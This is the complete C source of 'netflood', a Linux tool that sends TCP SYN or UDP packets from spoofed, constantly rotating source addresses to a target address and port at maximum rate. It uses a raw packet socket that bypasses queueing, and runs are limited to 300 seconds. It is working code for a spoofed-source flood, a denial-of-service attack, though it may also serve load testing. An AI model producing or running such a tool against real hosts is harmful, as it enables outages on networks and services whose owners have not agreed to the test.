/* SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause) */
/*
 * netflood: SYNs or datagrams from spoofed sources, as fast as one core sends them, for a bounded
 * time. IPv4 frames by a packet socket past the queueing discipline; source address and port
 * change with every frame. Prints how many were sent and how many a second.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH	    64
#define SECONDS_MAX 300

static const char help[] =
	"Usage: netflood --device DEV --mac MAC --to ADDR:PORT --spoof ADDR [options]\n"
	"  -d, --device DEV     where frames leave\n"
	"  -m, --mac MAC        destination of the frames\n"
	"  -t, --to ADDR:PORT   IPv4\n"
	"  -f, --spoof ADDR     sources are ADDR and the 65535 addresses that follow\n"
	"  -u, --udp            datagrams, not SYNs\n"
	"  -s, --seconds S      for how long (default 1, at most 300)\n"
	"  -n, --at-least N     and longer, until so many are sent, but not beyond 300 seconds\n"
	"Exit: 0 sent, 1 could not, 2 usage.\n";

struct frame {
	struct ether_header eth;
	struct iphdr ip;
	union {
		struct tcphdr tcp;
		struct udphdr udp;
	};
} __attribute__((packed));

struct flood {
	struct frame frame[BATCH];
	struct iovec iov[BATCH];
	struct mmsghdr message[BATCH];
	struct sockaddr_ll to;
	uint32_t spoof, next;
	bool udp;
	size_t length;
};

static uint32_t sum_of(const void *data, size_t length)
{
	const uint16_t *word = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < length / 2; i++)
		sum += word[i];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	sum = (sum & 0xFFFF) + (sum >> 16);
	return ~((sum & 0xFFFF) + (sum >> 16));
}

/* The next source: all addresses of one port, then of the next. */
static void turn(struct flood *f, struct frame *frame)
{
	size_t l4 = f->length - sizeof(frame->eth) - sizeof(frame->ip);
	uint16_t port = htons(1024 + (f->next >> 16) % 64512);
	uint32_t pseudo;

	frame->ip.saddr = htonl(f->spoof + (f->next++ & 0xFFFF));
	frame->ip.check = 0;
	frame->ip.check = fold(sum_of(&frame->ip, sizeof(frame->ip)));
	pseudo = sum_of(&frame->ip.saddr, 8) + htons(frame->ip.protocol) + htons(l4);
	frame->tcp.source = port; /* the same place in both */
	if (f->udp) {
		frame->udp.check = 0;
		frame->udp.check = fold(pseudo + sum_of(&frame->udp, l4));
	} else {
		frame->tcp.check = 0;
		frame->tcp.check = fold(pseudo + sum_of(&frame->tcp, l4));
	}
}

static void build(struct flood *f, const uint8_t *mac, uint32_t addr, uint16_t port)
{
	f->length = sizeof(struct ether_header) + sizeof(struct iphdr) +
		    (f->udp ? sizeof(struct udphdr) : sizeof(struct tcphdr));
	for (int i = 0; i < BATCH; i++) {
		struct frame *frame = &f->frame[i];

		memcpy(frame->eth.ether_dhost, mac, ETH_ALEN);
		frame->eth.ether_type = htons(ETHERTYPE_IP);
		frame->ip = (struct iphdr){.version = 4,
					   .ihl = 5,
					   .ttl = 64,
					   .protocol = f->udp ? IPPROTO_UDP : IPPROTO_TCP,
					   .tot_len = htons(f->length - sizeof(frame->eth)),
					   .daddr = addr};
		if (f->udp)
			frame->udp = (struct udphdr){.dest = port, .len = htons(8)};
		else
			frame->tcp = (struct tcphdr){
				.dest = port, .doff = 5, .syn = 1, .window = htons(64240)};
		f->iov[i] = (struct iovec){frame, f->length};
		f->message[i].msg_hdr = (struct msghdr){.msg_name = &f->to,
							.msg_namelen = sizeof(f->to),
							.msg_iov = &f->iov[i],
							.msg_iovlen = 1};
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static int run(struct flood *f, double seconds, uint64_t least)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), one = 1, sent;
	double begun = now(), elapsed;
	uint64_t count = 0;

	if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one))) {
		perror("netflood");
		return 1;
	}
	do {
		for (int i = 0; i < BATCH; i++)
			turn(f, &f->frame[i]);
		sent = sendmmsg(fd, f->message, BATCH, 0);
		if (sent < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("netflood: sendmmsg");
			return 1;
		}
		count += sent > 0 ? sent : 0;
		elapsed = now() - begun;
	} while (elapsed < seconds || (count < least && elapsed < SECONDS_MAX));
	close(fd);
	printf("{\"sent\":%llu,\"seconds\":%.2f,\"rate\":%.0f}\n", (unsigned long long)count,
	       elapsed, count / elapsed);
	return 0;
}

static int usage(void)
{
	fputs(help, stderr);
	return 2;
}

int main(int argc, char **argv)
{
	static const struct option options[] = {{"device", required_argument, NULL, 'd'},
						{"mac", required_argument, NULL, 'm'},
						{"to", required_argument, NULL, 't'},
						{"spoof", required_argument, NULL, 'f'},
						{"udp", no_argument, NULL, 'u'},
						{"seconds", required_argument, NULL, 's'},
						{"at-least", required_argument, NULL, 'n'},
						{"help", no_argument, NULL, 'h'},
						{}};
	static struct flood f;
	struct in_addr to = {}, spoof = {};
	uint8_t mac[6] = {};
	char *colon;
	double seconds = 1;
	uint64_t least = 0;
	uint16_t port = 0;
	int opt;

	f.to = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_halen = ETH_ALEN};
	while ((opt = getopt_long(argc, argv, "d:m:t:f:us:n:h", options, NULL)) != -1) {
		if (opt == 'd') {
			f.to.sll_ifindex = (int)if_nametoindex(optarg);
		} else if (opt == 'm') {
			if (sscanf(optarg, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1],
				   &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
				return usage();
		} else if (opt == 't') {
			colon = strchr(optarg, ':');
			if (!colon)
				return usage();
			*colon = '\0';
			port = htons(strtoul(colon + 1, NULL, 10));
			if (inet_pton(AF_INET, optarg, &to) != 1)
				return usage();
		} else if (opt == 'f') {
			if (inet_pton(AF_INET, optarg, &spoof) != 1)
				return usage();
		} else if (opt == 'u') {
			f.udp = true;
		} else if (opt == 's') {
			seconds = strtod(optarg, NULL);
		} else if (opt == 'n') {
			least = strtoull(optarg, NULL, 10);
		} else if (opt == 'h') {
			fputs(help, stdout);
			return 0;
		} else {
			return usage();
		}
	}
	if (!f.to.sll_ifindex || !port || !spoof.s_addr || seconds <= 0 || seconds > SECONDS_MAX)
		return usage();
	f.spoof = ntohl(spoof.s_addr);
	build(&f, mac, to.s_addr, port);
	return run(&f, seconds, least);
}
